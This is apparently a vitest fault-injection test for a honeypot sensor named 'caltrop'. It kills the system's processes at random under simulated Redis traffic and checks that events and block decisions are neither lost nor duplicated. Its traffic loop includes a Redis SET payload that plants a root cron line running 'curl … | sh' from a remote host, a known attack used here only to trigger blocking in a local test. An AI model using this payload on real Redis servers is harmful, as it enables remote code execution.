import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import { chmodSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { seeded } from '../bench/bench.ts';
import { silentLog } from '../src/kit/log.ts';
import { collect, openEmbeddedLake } from '../src/lake/index.ts';

interface Listed {
  decision: { scope: { source: string } };
}

/** How often a process is killed; the soak raises it. */
const kills = Number(process.env.CALTROP_KILLS ?? 6);
const root = join(import.meta.dirname, '..');
const folder = mkdtempSync(join(tmpdir(), 'caltrop-faults-'));
// The sensor's own user has to come through to its spool.
chmodSync(folder, 0o711);
const data = join(folder, 'data');
const config = join(folder, 'caltrop.yaml');

let main: ChildProcess | undefined;
let redis = 0;

beforeAll(() => {
  writeFileSync(
    config,
    `profile: lab
decision: {mode: enforce, budget: {growthFloor: 10000, perMinute: 10000}}
server: {port: 0}
sensor: {services: {telnet: {enabled: false}, http: {enabled: false}, redis: {port: 0}}}
enforcement: {blocklist: {enabled: true}}
intake: {enrich: false, segmentAgeMs: 200}
`,
  );
});
afterAll(() => {
  main?.kill('SIGKILL');
  rmSync(folder, { recursive: true, force: true });
});

async function start(): Promise<void> {
  const child = spawn(join(root, 'caltrop'), ['up', '--config', config, '--data', data, '--json'], {
    stdio: ['ignore', 'pipe', 'ignore'],
  });
  main = child;
  for await (const line of createInterface({ input: child.stdout! })) {
    const { services } = JSON.parse(line) as { services: { port: number }[] };
    redis = services[0]!.port;
    return;
  }
  throw new Error('the system did not start');
}

function caltrop<T>(...args: string[]): T[] {
  const text = execFileSync(join(root, 'caltrop'), [...args, '--config', config, '--data', data, '--json'], {
    encoding: 'utf8',
    maxBuffer: 64 * 1024 * 1024,
  });
  return text
    .trim()
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as T);
}

/** The processes of the system, by what they are: told by their command lines, and only those below our main process. */
function processes(): Record<string, number> {
  const found: Record<string, number> = {};
  if (main?.pid) found.main = main.pid;
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    try {
      const line = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
      const parent = Number(readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]!.split(' ')[1]);
      if (parent !== main?.pid) continue;
      if (line.includes('/lake/process.js')) found.lake = Number(pid);
      if (line.includes('/sensor/main.js')) found.sensor = Number(pid);
    } catch {
      // It has gone meanwhile.
    }
  }
  return found;
}

/** Sends one numbered command from one address; resolves with whether an answer came. */
function send(ip: string, words: string): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port: redis, localAddress: ip, timeout: 2_000 });
    const end = (answered: boolean) => {
      socket.destroy();
      resolve(answered);
    };
    socket.on('connect', () => socket.write(`${words}\r\n`));
    socket.on('data', () => end(true));
    socket.on('error', () => end(false));
    socket.on('timeout', () => end(false));
    socket.on('close', () => end(false));
  });
}

test(`after ${kills} kills at random, no acknowledged event is lost, none is stored twice, and nothing is decided twice`, async () => {
  const random = seeded(Number(process.env.CALTROP_SEED ?? 7));
  await start();
  const answered: { key: string; at: number }[] = [];
  const killedAt: number[] = [];
  let going = true;
  let number = 0;
  const traffic = (async () => {
    while (going) {
      const key = `k${number++}`;
      if (await send(`127.20.0.${(number % 50) + 1}`, `GET ${key}`)) answered.push({ key, at: Date.now() });
      if (number % 25 === 0)
        await send(
          `127.21.${(number / 25) >> 8}.${(number / 25) & 255}`,
          'SET x "\\n* * * * * root curl -fsSL http://192.0.2.66/b.sh | sh\\n"',
        );
      await sleep(4);
    }
  })();
  for (let i = 0; i < kills; i++) {
    await sleep(700 + random() * 900);
    const targets = Object.entries(processes());
    // Each kind in turn first, then at random.
    const kind = ['lake', 'sensor', 'main'][i] ?? targets[Math.floor(random() * targets.length)]![0];
    const pid = Object.fromEntries(targets)[kind];
    if (!pid) continue;
    killedAt.push(Date.now());
    process.kill(pid, 'SIGKILL');
    if (kind === 'main') {
      if (main!.exitCode === null && main!.signalCode === null) await once(main!, 'exit');
      await start();
    }
  }
  await sleep(1_500);
  going = false;
  await traffic;
  await expect
    .poll(() => caltrop<{ lake: { waiting: number } }>('status')[0]!.lake.waiting, {
      timeout: 20_000,
      interval: 500,
    })
    .toBe(0);
  await sleep(1_000);

  // An answer may have gone out a moment before a killed sensor could write the event down: that one was not acknowledged.
  const certain = answered
    .filter(({ at }) => !killedAt.some((kill) => at <= kill + 50 && at > kill - 150))
    .map(({ key }) => key);
  expect(certain.length).toBeGreaterThan(200);
  const standing = caltrop<Listed>('decisions', '--standing', '--limit', '10000');
  const blocked = readFileSync(join(data, 'blocklist', 'all.txt'), 'utf8')
    .split('\n')
    .filter((line) => line !== '' && !line.startsWith('#'));
  expect(blocked.sort()).toEqual(standing.map(({ decision }) => decision.scope.source).sort());
  const all = caltrop<Listed>('decisions', '--limit', '10000').map(({ decision }) => decision.scope.source);
  expect(all.length).toBeGreaterThan(5);
  expect(all.filter((source, i) => all.indexOf(source) !== i)).toEqual([]);

  main!.kill('SIGTERM');
  await once(main!, 'exit');
  const lake = await openEmbeddedLake({
    folder: join(data, 'lake'),
    runFolder: join(data, 'run'),
    log: silentLog,
  });
  const rows = await collect<{ id: string; input: string }>(
    lake.rows({
      sql: "SELECT toString(id) AS id, input FROM events WHERE kind = 'command' AND input LIKE 'GET k%'",
    }),
  );
  await lake.close();
  const inputs = new Set(rows.map(({ input }) => input));
  expect(certain.filter((key) => !inputs.has(`GET ${key}`))).toEqual([]);
  expect(new Set(rows.map(({ id }) => id)).size).toBe(rows.length);
  expect(inputs.size).toBe(rows.length);
}, 180_000);
